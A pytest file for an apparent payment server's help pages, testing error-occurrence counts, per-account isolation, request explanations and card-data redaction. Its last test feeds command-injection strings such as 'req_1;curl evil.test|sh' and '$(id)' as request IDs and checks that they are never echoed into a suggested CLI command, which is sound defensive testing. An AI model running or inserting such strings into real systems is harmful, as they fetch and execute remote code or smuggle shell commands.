"""What an account has seen of a code: its own, in its mode, counted and bounded, on both engines."""

from __future__ import annotations

import html
from pathlib import Path

import pytest

from finsecure_server.app import ROUTES
from finsecure_server.core.env import Env
from finsecure_server.help import occurrences
from finsecure_server.help.occurrences import DAY_US, ROWS_MAX, WEEK_US, Occurrences
from finsecure_server.storage.database import Database, Tx
from finsecure_server.web.request_log import row_of
from tests.world import World, open_world

INTENTS = "/v1/payment_intents"


@pytest.fixture
async def world(database: Database, tmp_path: Path) -> World:
    own = [route for route in ROUTES if route.path.startswith(("/help/errors", "/help/requests"))]
    return await open_world(database, tmp_path, routes=own)


async def flush(world: World) -> None:
    """Write down what the edge has noted."""

    def op(tx: Tx) -> None:
        for entry in world.noted.entries:
            tx.append("request_log", row_of(entry))

    await world.db.write(op)
    world.noted.entries.clear()


async def seen(world: World, code: str, env: Env | None = None) -> Occurrences:
    return await world.db.read(lambda reader: occurrences.of(reader, env or world.env(), code))


async def decline(world: World, card: str) -> str:
    got = await world.post(INTENTS, {"amount": 2000, "currency": "usd", "payment_method": card, "confirm": "true"})
    assert got.status == 402
    return got.headers["request-id"]


async def test_nothing_has_happened_yet(world: World) -> None:
    for code in ("parameter_missing", "insufficient_funds", "webhook_timeout"):
        own = await seen(world, code)
        assert (own.last_24_hours, own.last_7_days, own.first, own.last, own.latest) == (0, 0, None, None, ())


async def test_they_are_counted_by_age_and_by_place(world: World) -> None:
    began = world.wall
    await world.post(INTENTS, {"amount": 2000})
    world.wall += WEEK_US
    await world.post("/v1/customers/cus_0123456789abcdefghjk", {"nme": "x"})
    await world.post(INTENTS, {"amount": 2000})
    world.wall += DAY_US
    last = (await world.post(INTENTS, {"currency": "usd"})).headers["request-id"]
    await flush(world)
    own = await seen(world, "parameter_missing")
    assert (own.last_24_hours, own.last_7_days, own.at_least, own.of) == (1, 2, False, "requests")
    assert own.first == (began + 1000) // 1_000_000
    assert own.last == world.wall // 1_000_000
    assert [(place.call, place.count) for place in own.places] == [(f"POST {INTENTS}", 3)]
    assert own.latest[0].id == last
    unknown = await seen(world, "parameter_unknown")
    assert unknown.places[0].call == "POST /v1/customers/{id}"


async def test_declines_are_told_apart(world: World) -> None:
    poor = await decline(world, "pm_card_visa_chargeDeclinedInsufficientFunds")
    lost = await decline(world, "pm_card_visa_chargeDeclinedLostCard")
    old = await decline(world, "pm_card_chargeDeclinedExpiredCard")
    await flush(world)
    for code, request in (("insufficient_funds", poor), ("lost_card", lost), ("expired_card", old)):
        assert [one.id for one in (await seen(world, code)).latest] == [request], code
    assert {one.id for one in (await seen(world, "card_declined")).latest} == {poor, lost}
    assert (await seen(world, "do_not_honor")).latest == ()


async def test_an_account_sees_its_own_and_a_mode_its_own(world: World) -> None:
    await world.post(INTENTS, {"amount": 2000})
    await flush(world)
    first = world.account.account
    await world.open_account("Shoe Shop")
    assert (await seen(world, "parameter_missing")).latest == ()
    assert (await seen(world, "parameter_missing", world.env(first, livemode=True))).latest == ()
    assert len((await seen(world, "parameter_missing", world.env(first))).latest) == 1


async def test_no_more_rows_are_read_than_are_allowed(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(occurrences, "ROWS_MAX", 3)
    for _ in range(4):
        await world.post(INTENTS, {"amount": 2000})
    poor = await decline(world, "pm_card_visa_chargeDeclinedInsufficientFunds")
    for _ in range(3):
        await decline(world, "pm_card_visa_chargeDeclinedLostCard")
    await flush(world)
    own = await seen(world, "parameter_missing")
    assert (own.last_7_days, own.at_least) == (3, True)
    hidden = await seen(world, "insufficient_funds")
    assert (hidden.latest, hidden.at_least) == ((), True), poor
    assert ROWS_MAX == 1_000


# -- on the page -------------------------------------------------------------------------------------------------------


async def test_the_page_of_a_known_reader_shows_them(world: World) -> None:
    request = await decline(world, "pm_card_visa_chargeDeclinedInsufficientFunds")
    await flush(world)
    known = await world.get("/help/errors/insufficient_funds")
    assert known.headers["cache-control"] == "private, no-store"
    page = known.body.decode()
    assert f'href="/help/requests/{request}"' in page
    assert "test mode" in page
    assert "<dd>1 request</dd>" in page
    twin = (await world.get("/help/errors/insufficient_funds.json")).json
    assert twin["occurrences"]["latest"][0]["id"] == request
    assert twin["occurrences"]["livemode"] is False
    stranger = await world.get("/help/errors/insufficient_funds", authorization="none")
    assert request not in stranger.body.decode()
    assert 'href="/help/sign-in?return_to=/help/errors/insufficient_funds"' in stranger.body.decode()
    assert stranger.headers["cache-control"].startswith("public")
    data = await world.get("/help/errors/insufficient_funds.json", authorization="none")
    assert "occurrences" not in data.json


async def test_the_page_says_so_when_it_has_not_happened(world: World) -> None:
    page = (await world.get("/help/errors/lost_card")).body.decode()
    assert "It has not happened in test mode" in page
    live = (await world.get("/help/errors/lost_card", key=world.account.secret_live)).body.decode()
    assert "It has not happened in live mode" in live


async def test_every_page_can_be_shown_to_a_known_reader(world: World) -> None:
    for code in ("rate_limit", "webhook_timeout", "card_declined", "authentication_not_handled"):
        assert (await world.get(f"/help/errors/{code}")).status == 200
    assert (await world.get("/help/errors")).status == 200


# -- requests ----------------------------------------------------------------------------------------------------------


async def test_a_request_is_told(world: World) -> None:
    got = await world.post(
        INTENTS,
        {"amount": 2000, "currency": "usd", "payment_method": "pm_card_visa_chargeDeclinedLostCard", "confirm": "true"},
        idempotency_key="order-7",
    )
    request, intent = got.headers["request-id"], got.error["payment_intent"]["id"]
    await flush(world)
    page = (await world.get(f"/help/requests/{request}")).body.decode()
    for part in (request, intent, "order-7", "402 Payment Required", 'href="/help/errors/lost_card"', " UTC", " ms"):
        assert part in page, part
    assert f"http://pay.test{INTENTS}/{intent}" in page
    told = (await world.get(f"/help/requests/{request}.json")).json
    assert (told["code"], told["state"], told["side"]) == ("lost_card", "failed", "issuer")
    assert told["next_steps"] == got.error["next_steps"]
    assert {"id": intent, "address": f"http://pay.test{INTENTS}/{intent}"} in told["objects"]
    assert told["request_log_url"] == got.error["request_log_url"]


async def test_a_request_that_succeeded_is_told(world: World) -> None:
    got = await world.post("/v1/customers", {"name": "Jenny"})
    await flush(world)
    page = (await world.get(f"/help/requests/{got.headers['request-id']}")).body.decode()
    assert "Succeeded" in page
    assert got.json["id"] in page
    assert "Jenny" in page


async def test_card_data_is_not_on_the_page_of_a_request(world: World) -> None:
    card = {"card[number]": "4012888888881881", "card[exp_month]": 12, "card[exp_year]": 2050, "card[cvc]": "987"}
    got = await world.post("/v1/payment_methods", {"type": "card", **card})
    assert got.code == "live_card_in_test_mode"
    await flush(world)
    for ending in ("", ".json"):
        page = (await world.get(f"/help/requests/{got.headers['request-id']}{ending}")).body.decode()
        assert "4012888888881881" not in page
        assert "987" not in page.replace(got.headers["request-id"], "")
        assert "[redacted]" in page


async def test_requests_of_others_and_none_are_not_there(world: World) -> None:
    request = (await world.post(INTENTS, {"amount": 2000})).headers["request-id"]
    await flush(world)
    owner = world.account
    other = await world.open_account("Shoe Shop")
    for key in (other.secret_test, owner.secret_live):
        got = await world.get(f"/help/requests/{request}", key=key)
        assert got.status == 404
        assert "older than 30 days" in got.body.decode()
        twin = await world.get(f"/help/requests/{request}.json", key=key)
        assert (twin.status, twin.code) == (404, "resource_missing")


async def test_a_stranger_is_told_how_to_look_it_up(world: World) -> None:
    got = await world.get("/help/requests/req_any", authorization="none")
    page = got.body.decode()
    assert got.status == 200
    assert "finsecure explain req_any" in page
    assert 'href="/help/sign-in?return_to=/help/requests/req_any"' in page
    twin = await world.get("/help/requests/req_any.json", authorization="none")
    assert (twin.status, twin.code) == (401, "api_key_missing")


@pytest.mark.parametrize(
    "asked", ["req_1;curl evil.test|sh", "$(id)", "`id`", "req_1\x1b[201~\rid", "x" * 101, "req_é"]
)
async def test_no_command_repeats_what_is_no_id(world: World, asked: str) -> None:
    for authorization in ("none", f"Bearer {world.account.secret_test}"):
        page = (await world.get(f"/help/requests/{asked}", authorization=authorization)).body.decode()
        assert "finsecure explain req_…" in page
        assert html.escape(asked) not in page
        assert asked not in page
